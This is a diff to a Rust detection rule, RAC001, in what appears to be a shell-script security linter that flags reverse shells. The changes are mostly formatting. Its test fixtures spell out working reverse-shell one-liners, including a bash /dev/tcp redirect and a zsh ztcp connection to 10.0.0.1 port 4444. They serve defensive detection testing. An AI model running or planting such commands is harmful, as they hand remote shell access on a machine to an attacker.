@@ -5,8 +5,8 @@
 //! Inspects every command: the socket is a redirection any program can carry.
 
 use crate::rules::exfiltration::common::is_interpreter;
-use crate::rules::remote_access::common::{SHELLS, redirects_of};
 use crate::rules::prelude::*;
+use crate::rules::remote_access::common::{SHELLS, redirects_of};
 
 pub(crate) static RULE: Rule = Rule {
     code: "RAC001",
@@ -28,12 +28,7 @@ pub(crate) static RULE: Rule = Rule {
         "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
         "h=10.0.0.1; bash -i >& /dev/tcp/$h/4444 0>&1",
     ],
-    passes: &[
-        "bash -i",
-        "echo hi > /dev/tcp/127.0.0.1/9000",
-        "bash script.sh > out.log 2>&1",
-        "cat < /dev/tcp/time.nist.gov/13",
-    ],
+    passes: &["bash -i", "echo hi > /dev/tcp/127.0.0.1/9000", "bash script.sh > out.log 2>&1", "cat < /dev/tcp/time.nist.gov/13"],
 };
 
 fn is_shell(cmd: &Command) -> bool {
@@ -42,7 +37,11 @@ fn is_shell(cmd: &Command) -> bool {
 
 fn check(cmd: &Command, cx: &Context<'_>) -> Option<Hit> {
     if cmd.name == "ztcp" {
-        let shell_follows = cx.script.commands.iter().any(|c| c.id > cmd.id && SHELLS.contains(&c.name.as_str()) && c.redirects.iter().any(|r| r.target.text.contains("REPLY")));
+        let shell_follows = cx
+            .script
+            .commands
+            .iter()
+            .any(|c| c.id > cmd.id && SHELLS.contains(&c.name.as_str()) && c.redirects.iter().any(|r| r.target.text.contains("REPLY")));
         return shell_follows.then(|| Hit::command().with_message("`ztcp` connects a zsh to a remote host"));
     }
     let sock = redirects_of(cx.script, cmd).into_iter().find(|r| r.target.path == PathClass::NetSocket)?;
